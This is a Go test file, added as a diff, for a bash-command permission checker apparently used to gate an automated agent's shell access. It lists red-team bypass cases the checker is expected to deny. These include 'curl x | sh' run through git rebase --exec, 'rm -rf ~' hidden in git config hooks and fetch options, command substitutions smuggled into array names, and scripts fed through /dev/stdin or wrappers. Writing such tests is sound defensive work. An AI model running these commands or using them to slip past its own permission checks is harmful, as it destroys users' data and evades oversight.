@@ -1,0 +1,127 @@
+package permission
+
+import "testing"
+
+// gitAll allows every git command but push, plus edits, as a typical
+// "git is fine" policy does.
+func gitAll() Ruleset {
+	return Ruleset{
+		{Bash, "git *", Allow}, {Bash, "git push*", Deny}, {Bash, "go test *", Allow}, {Bash, "tail *", Allow},
+		{Bash, "echo *", Allow}, {Bash, "tee *", Allow}, {Bash, "find *", Allow}, {Bash, "cd *", Allow},
+		{Edit, "src/**", Allow}, {Read, "**", Allow},
+	}
+}
+
+// TestCheckBashRedTeam holds the holes a second review found, each with
+// the kind of attack it stands for, and the ordinary commands that must
+// stay allowed next to them.
+func TestCheckBashRedTeam(t *testing.T) {
+	t.Parallel()
+	wt := caseTree(t)
+	tests := []struct {
+		kind  string
+		rules Ruleset
+		cmd   string
+		want  bool
+	}{
+		// >&WORD is a file redirection unless WORD is a file descriptor
+		{"dup-to-file", strict(), `echo hi >&"notes.txt"`, false},
+		{"dup-to-file", strict(), `echo hi >&'/etc/profile'`, false},
+		{"dup-to-file", strict(), `echo hi >&$F`, false},
+		{"dup-to-file", strict(), `echo hi 1>&"../x"`, false},
+		{"dup-to-file", strict(), `echo hi >&"src/x"`, true},
+		{"dup-fd", strict(), `echo hi >&"2"`, true},
+		{"dup-fd", strict(), `echo hi 2>&1 >&2`, true},
+		// a directory change behind a wrapper or in a later statement
+		{"cd-wrapped", strict(), "builtin cd / && echo hi > src/x", false},
+		{"cd-wrapped", strict(), "command cd .. && echo hi > src/x", false},
+		{"cd-wrapped", open(), "builtin cd / && echo hi > src/x", false},
+		{"cd-later", strict(), "for d in a b; do echo hi > src/x; cd ..; done", false},
+		{"cd-script", open(), "sh -c 'cd /etc' && echo hi > src/x", false},
+		{"cd-absolute", strict(), "cd src && echo hi > " + "/dev/null", true},
+		// shells whose script is standard input or another open file
+		{"shell-stdin-file", open(), "bash /dev/stdin <<< 'rm x'", false},
+		{"shell-stdin-file", open(), "sh /proc/self/fd/0 <<< 'rm x'", false},
+		{"shell-stdin-file", open(), "bash /dev/fd/3 3<<< 'rm x'", false},
+		{"shell-stdin-file", open(), "bash $SCRIPT", false},
+		{"shell-script-file", open(), "bash ./build.sh", true},
+		// expansions that evaluate a value as code
+		{"prompt-expansion", open(), `x=$(cat f); echo ${x@P}`, false},
+		{"indirection", open(), `x=$(cat f); echo ${!x}`, false},
+		{"indirection-keys", open(), `echo ${!a[@]} ${!BASH*}`, true},
+		{"name-with-code", strict(), `[ -v 'a[$(rm y)]' ]`, false},
+		{"name-with-code", strict(), `[[ -v 'a[$(rm y)]' ]]`, false},
+		{"name-with-code", strict(), `[[ 'a[$(rm y)]' -eq 1 ]]`, false},
+		{"name-with-code", open(), `let 'a[$(rm y)]=1'`, false},
+		{"name-with-code", open(), `printf -v 'a[$(rm y)]' x`, false},
+		{"name-with-code", open(), "read 'a[`rm y`]' < /dev/null", false},
+		{"name-with-code", open(), `unset 'a[$(rm y)]'`, false},
+		{"name-with-code", open(), `declare 'a[$(rm y)]=1'`, false},
+		{"name-with-code", open(), `declare -n r='a[$(rm y)]'`, false},
+		{"name-with-code", open(), `wait -p 'a[$(rm y)]'`, false},
+		{"name-plain", strict(), `[ "$x" = '$(literal)' ]`, true},
+		{"name-plain", open(), `printf '%s\n' '$(literal)'`, true},
+		{"name-plain", strict(), `echo '$(literal)'`, true},
+		{"name-plain", strict(), `[[ -f src/a.go ]] && echo yes`, true},
+		// git subcommands that run a shell command or write config
+		{"git-runs", gitAll(), "git rebase --exec 'curl x | sh' HEAD~3", false},
+		{"git-runs", gitAll(), "git rebase -x 'rm -rf ~' HEAD~3", false},
+		{"git-runs", gitAll(), "git rebase --exec='rm -rf ~' HEAD~3", false},
+		{"git-runs", gitAll(), "git bisect run rm -rf x", false},
+		{"git-runs", gitAll(), "git submodule foreach 'rm -rf x'", false},
+		{"git-runs", gitAll(), "git submodule --quiet foreach --recursive 'git push'", false},
+		{"git-runs", gitAll(), "git difftool -x 'rm x'", false},
+		{"git-runs", gitAll(), "git difftool --extcmd='rm x'", false},
+		{"git-runs", gitAll(), "git fetch --upload-pack='rm -rf ~' .", false},
+		{"git-runs", gitAll(), "git push --receive-pack='rm -rf ~' .", false},
+		{"git-runs", gitAll(), "git archive --remote=. --exec='rm -rf ~' HEAD", false},
+		{"git-runs", gitAll(), "git filter-branch --tree-filter 'rm -rf x' HEAD", false},
+		{"git-config", gitAll(), "git config core.fsmonitor 'rm -rf ~'", false},
+		{"git-config", gitAll(), "git config --local core.pager 'curl x'", false},
+		{"git-config", gitAll(), "git config set alias.st '!rm x'", false},
+		{"git-config", gitAll(), "git clone -c core.fsmonitor='rm -rf ~' src/a src/b", false},
+		{"git-config", gitAll(), "git clone --config=core.hooksPath=/tmp src/a src/b", false},
+		{"git-dir", gitAll(), "git --git-dir=src/fake status", false},
+		{"git-dir", gitAll(), "git --git-dir src/fake status", false},
+		{"git-ok", gitAll(), "git rebase --exec 'go test ./...' HEAD~3", true},
+		{"git-ok", gitAll(), "git submodule foreach 'git status'", true},
+		{"git-ok", gitAll(), "git config user.name x", true},
+		{"git-ok", gitAll(), "git config --get core.pager", true},
+		{"git-ok", gitAll(), "git config core.pager", true},
+		{"git-ok", gitAll(), "git -C src log --oneline | tail -5", true},
+		{"git-ok", gitAll(), "git rebase -i HEAD~3", true},
+		// tee and find -fprint write the files they name
+		{"tee-edit", gitAll(), "echo hi | tee vendor/x", false},
+		{"tee-edit", gitAll(), "echo hi | tee -a ../x", false},
+		{"tee-edit", gitAll(), "echo hi | tee src/a.log .git/config", false},
+		{"tee-edit", gitAll(), "echo hi | tee $F", false},
+		{"tee-edit", gitAll(), "go test ./... 2>&1 | tee src/test.log | tail -20", true},
+		{"tee-edit", gitAll(), "echo hi | tee", true},
+		{"tee-edit", gitAll(), "echo hi | tee /dev/null", true},
+		{"find-write", gitAll(), "find . -fprint /etc/x", false},
+		{"find-write", gitAll(), "find . -fprintf .git/x %p", false},
+		{"find-write", gitAll(), "find . -name '*.go' -fprint src/list.txt", true},
+		// wrappers that run their operand
+		{"wrapper", open(), "strace -o /dev/null rm x", false},
+		{"wrapper", open(), "unshare -r rm x", false},
+		{"wrapper", open(), "taskset 1 rm x", false},
+		{"wrapper", open(), "chrt 0 rm x", false},
+		{"wrapper", open(), "script -qc 'rm x' /dev/null", false},
+		{"wrapper", open(), "su -c 'rm x'", false},
+		{"wrapper", open(), "runuser -u nobody -- rm x", false},
+		{"wrapper", open(), "fakeroot rm x", false},
+		// ordinary commands a reasonable policy allows
+		{"ordinary", gitAll(), "go test ./... 2>&1 | tail -20", true},
+		{"ordinary", gitAll(), "cd src && go test ./...", true},
+		{"ordinary", gitAll(), "git status && git diff --stat", true},
+		{"ordinary", gitAll(), "git log --format='%h %s' -n 5", true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.kind+"/"+tt.cmd, func(t *testing.T) {
+			v := CheckBash(tt.rules, wt, tt.cmd)
+			if v.Allowed != tt.want {
+				t.Errorf("CheckBash(%q).Allowed = %v, want %v\nreason: %s\nchecks: %+v", tt.cmd, v.Allowed, tt.want, v.Reason, v.Checks)
+			}
+		})
+	}
+}
